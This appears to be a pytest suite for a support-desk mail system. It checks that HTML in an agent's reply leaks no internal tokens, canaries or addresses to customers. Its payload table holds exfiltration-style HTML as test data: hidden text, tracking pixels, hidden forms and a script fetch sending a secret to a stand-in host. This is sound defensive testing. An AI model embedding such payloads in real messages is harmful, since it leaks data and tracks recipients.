"""Attacks by the HTML of an agent's reply: whatever his client put there, nothing internal reaches the customer (G15).

Driven with raw octets from the mailbox to what would have left, like `test_attacks`: the plain part is innocent, the
HTML beside it is not; or the HTML is all there is.
"""

from __future__ import annotations

import base64
from collections.abc import AsyncIterator
from dataclasses import replace
from email import policy
from email.parser import BytesParser
from pathlib import Path
from urllib.parse import quote

import pytest
from support.attackdesk import RECEIVED, AttackedDesk, Letter, octets, reply, vouched
from support.deskrun import KEYRING
from support.handdesk import store
from support.mailclients import REPLIES

from routing.tokens import canary
from store.outbox import OutboxItem

MEI = "mei@example.com"
PLAIN = "text/plain; charset=utf-8"
WORDS = "您好，可以更正。\n\n謝謝"
OWN = "<div>您好，<b>可以更正</b>。</div><div><br></div><div>謝謝</div>"
PNG = base64.b64encode(b"\x89PNG picture of his")


@pytest.fixture
async def desk(tmp_path: Path) -> AsyncIterator[AttackedDesk]:
    async with store(tmp_path) as db:
        yield AttackedDesk(db)


def alternative(plain: str, html: str) -> tuple[str, bytes]:
    parts = ((f"text/{kind}; charset=utf-8", text) for kind, text in (("plain", plain), ("html", html)))
    body = "".join(f"--b\r\nContent-Type: {kind}\r\n\r\n{text}\r\n" for kind, text in parts) + "--b--\r\n"
    return 'multipart/alternative; boundary="b"', body.encode()


async def answered(desk: AttackedDesk, item: OutboxItem, kind: str, body: bytes) -> Letter | None:
    """What the customer gets; None where it is held."""
    await desk.takes(reply(item, body, kind=kind))
    return next((letter for letter in await desk.leaves() if letter.to == MEI), None)


def internals(desk: AttackedDesk, item: OutboxItem) -> dict[str, str]:
    token = item.recipe["token"]
    return {
        "token address": f"support+{token}@firm.example",
        "token": token,
        "canary": canary(KEYRING, 1001),
        "our Message-ID": item.mail_id.strip("<>"),
        "card": "聯絡方式：mei@example.com",
        "private address": f"{item.agent}@firm.example",
    }


def nothing_of(letter: Letter, inside: dict[str, str]) -> None:
    raw = letter.body.decode("utf-8", "replace") + letter.text
    for what, secret in inside.items():
        for written in (secret, quote(secret), secret.upper(), base64.b64encode(secret.encode()).decode()):
            assert written not in raw, what


async def test_the_honest_html_does_leave(desk: AttackedDesk) -> None:
    """Else all the others would prove nothing."""
    item = await desk.opened()

    letter = await answered(desk, item, *alternative(WORDS, f"<html><body>{OWN}</body></html>"))

    assert letter is not None
    assert "<b>可以更正</b>" in letter.html
    assert letter.plain.startswith("您好，可以更正。")
    assert letter.mail.get_content_type() == "multipart/alternative"


@pytest.mark.parametrize("client", [name for name in REPLIES if name != "plain"])
async def test_g15_whatever_a_client_quotes_stays_behind(desk: AttackedDesk, client: str) -> None:
    item = await desk.opened()
    assignment = next(m for m in desk.keeper.kept if m.message_id == item.mail_id)
    ours = BytesParser(policy=policy.default).parsebytes(assignment.body)
    raw = REPLIES[client](ours, "陳", f"{item.agent}@firm.example", WORDS)  # type: ignore[arg-type]
    await desk.takes(b"\r\n".join(line.encode() for line in (vouched("firm.example"), RECEIVED)) + b"\r\n" + raw)

    [letter] = [one for one in await desk.leaves() if one.to == MEI]
    assert letter.plain.startswith("您好，可以更正。")
    nothing_of(letter, internals(desk, item))
    assert "客服 #1001" not in letter.text


PLACES = {
    "an attribute": '<div title="{x}" data-a="{x}" id="{x}" class="{x}" lang="{x}">{own}</div>',
    "a comment": "<!-- {x} -->{own}<!--[if mso]>{x}<![endif]-->",
    "CSS": "<style>.a:after{{content:'{x}'}}</style><div style=\"content:'{x}';font-family:{x};--a:{x}\">{own}</div>",
    "white on white": '{own}<div style="color:#fff;background:#fff">{x}</div>',
    "no size": '{own}<div style="font-size:0;display:none">{x}</div>',
    "template": "{own}<template>{x}</template>",
    "svg": '{own}<svg xmlns="http://www.w3.org/2000/svg"><title>{x}</title><text>{x}</text></svg>',
    "nested tables": "{own}<table><tr><td><table><tr><td>{x}</td></tr></table></td></tr></table>",
    "table within": "<table><tr><td>{own}</td><td>{x}</td></tr></table>",
    "base64 data": '{own}<img src="data:image/svg+xml;base64,{b64}"><a href="data:text/plain;base64,{b64}">.</a>',
    "picture's text": '{own}<img alt="{x}" title="{x}" src="cid:{x}">',
    "link": '<div>您好，<a href="https://x.example/?q={x}">可以更正</a>。</div><div>謝謝</div>',
    "link in percent": '<div>您好，<a href="https://x.example/?q={percent}">可以更正</a>。</div><div>謝謝</div>',
    "link in double percent": '<div>您好，<a href="https://x.example/{double}">可以更正</a>。</div><div>謝謝</div>',
    "link as entities": '<div>您好，<a href="https://x.example/{entities}">可以更正</a>。</div><div>謝謝</div>',
    "mailto": '<div>您好，<a href="mailto:a@x.example?subject={percent}&cc={x}">可以更正</a>。</div><div>謝謝</div>',
    "relative link": '<div>您好，<a href="{x}">可以更正</a>。</div><div>謝謝</div>',
    "form": '{own}<form action="https://x.example/{x}"><input type="hidden" value="{x}"></form>',
    "remote picture": '{own}<img src="https://x.example/{percent}.gif" width="1" height="1">',
    "background": '<div style="background:url(\'https://x.example/{percent}\')" background="{x}">{own}</div>',
    "script": '{own}<script>fetch("https://x.example/{x}")</script><body onload="{x}">',
    "zero-width": "{own}<div>{zero}</div>",
    "between the words": "<div>您好，<span hidden>{x}</span>可以更正。</div><div>謝謝</div>",
    "object": '{own}<object data="{x}">{x}</object><iframe srcdoc="{x}"></iframe><embed src="{x}">',
}


@pytest.mark.parametrize("place", PLACES.values(), ids=PLACES)
async def test_g15_nothing_internal_leaves_in_the_html(desk: AttackedDesk, place: str) -> None:
    item = await desk.opened()
    for what, secret in internals(desk, item).items():
        html = place.format(
            own=OWN,
            x=secret,
            b64=base64.b64encode(secret.encode()).decode(),
            percent="".join(f"%{octet:02x}" for octet in secret.encode()),
            double="".join(f"%25{octet:02x}" for octet in secret.encode()),
            entities="".join(f"&#{ord(character)};" for character in secret),
            zero="\u200b".join(secret),
        )

        beside = await answered(desk, item, *alternative(WORDS, html))

        assert beside is not None
        assert "".join(beside.plain.split()).startswith("您好，可以更正。謝謝")
        nothing_of(beside, {what: secret})
        for fetched in ("x.example", "src=", "url(", "<script", "<form", "<svg"):
            assert fetched not in beside.html

        alone = await answered(desk, item, "text/html; charset=utf-8", html.encode())
        if alone is not None:
            nothing_of(alone, {what: secret})


async def test_g15_a_link_that_holds_nothing_of_ours_leaves(desk: AttackedDesk) -> None:
    item = await desk.opened()
    html = OWN.replace("<b>", '<a href="https://tax.example/q?a=1&amp;b=2">').replace("</b>", "</a>")

    letter = await answered(desk, item, *alternative(WORDS, html))

    assert letter is not None
    assert '<a href="https://tax.example/q?a=1&amp;b=2">可以更正</a>' in letter.html
    assert "可以更正 <https://tax.example/q?a=1&b=2>。" in letter.plain


async def test_a_picture_of_his_own_is_shown_in_its_place(desk: AttackedDesk) -> None:
    item = await desk.opened()
    html = '<div>您好，看下圖</div><img src="cid:i1@x" width="300"><div>謝謝</div>'
    kind, inner = alternative("您好，看下圖\n[cid:i1@x]\n謝謝", html)
    body = (
        f"--r\r\nContent-Type: {kind}\r\n\r\n".encode()
        + inner
        + b'--r\r\nContent-Type: image/png; name="a.png"\r\nContent-ID: <i1@x>\r\nContent-Disposition: inline\r\n'
        + b"Content-Transfer-Encoding: base64\r\n\r\n"
        + PNG
        + b"\r\n--r--\r\n"
    )

    letter = await answered(desk, item, 'multipart/related; boundary="r"', body)

    assert letter is not None
    shapes = [part.get_content_type() for part in letter.mail.walk()]
    assert shapes == ["multipart/related", "multipart/alternative", "text/plain", "text/html", "image/png"]
    [picture] = [part for part in letter.mail.walk() if part.get_content_type() == "image/png"]
    assert picture.get_payload(decode=True) == b"\x89PNG picture of his"
    assert f'src="cid:{picture["Content-ID"].strip("<>")}"' in letter.html
    assert "i1@x" not in letter.body.decode()


async def test_g15_a_picture_of_the_customers_that_is_only_quoted_is_not_sent_back(desk: AttackedDesk) -> None:
    picture = f"\r\nContent-Transfer-Encoding: base64\r\nContent-ID: <p@x>\r\n\r\n{PNG.decode()}"
    parts = [("text/html; charset=utf-8", '<p>請看</p><img src="cid:p@x">'), (f"image/png{picture}", "")]
    body = "".join(f"--b\r\nContent-Type: {kind}\r\n\r\n{text}\r\n" for kind, text in parts) + "--b--\r\n"
    await desk.takes(
        octets(
            vouched("example.com"),
            RECEIVED,
            "From: mei@example.com",
            "To: support@firm.example",
            "Message-ID: <a@example.com>",
            "Subject: 營業稅",
            body=body.replace("\r\n\r\n\r\n", "\r\n\r\n"),
            kind='multipart/related; boundary="b"',
        )
    )
    await desk.leaves()
    item = (await desk.outbox("assignment"))[-1]
    kind, inner = alternative(WORDS, f'{OWN}<div>On Mon, 客服 wrote:</div><img src="cid:q@y">')
    whole = (
        f"--r\r\nContent-Type: {kind}\r\n\r\n".encode()
        + inner
        + b"--r\r\nContent-Type: image/png\r\nContent-ID: <q@y>\r\nContent-Transfer-Encoding: base64\r\n\r\n"
        + PNG
        + b"\r\n--r--\r\n"
    )

    letter = await answered(desk, item, 'multipart/related; boundary="r"', whole)

    assert letter is not None
    assert letter.mail.get_content_type() == "multipart/alternative"


async def test_html_that_says_something_else_than_the_plain_part_stays_behind(desk: AttackedDesk) -> None:
    item = await desk.opened()

    letter = await answered(desk, item, *alternative(WORDS, "<p>完全不同的話</p>"))

    assert letter is not None
    assert letter.mail.get_content_type() == "text/plain"
    assert letter.plain.splitlines()[:3] == WORDS.splitlines()


async def test_the_firms_signature_stands_in_place_of_the_agents(desk: AttackedDesk) -> None:
    agents = {name: replace(one, signature=("陳小姐", "分機 123")) for name, one in desk.policy.agents.items()}
    desk.policy = replace(desk.policy, agents=agents, signatures={"zh-Hant": "誠信財稅 客服部\n02-2345-6789"})
    item = await desk.opened()
    html = f"{OWN}<div>陳小姐</div><div>分機 123</div>"

    letter = await answered(desk, item, *alternative(f"{WORDS}\n\n陳小姐\n分機 123", html))

    assert letter is not None
    assert "分機" not in letter.text
    assert "02-2345-6789" in letter.plain
    assert "02-2345-6789" in letter.html


async def test_a_bare_command_that_a_program_has_signed_sends_nothing(desk: AttackedDesk) -> None:
    item = await desk.opened()

    assert await answered(desk, item, PLAIN, "！結案\n\n-- \n陳小姐\n分機 123".encode()) is None
    assert (await desk.ticket()).state == "closed"
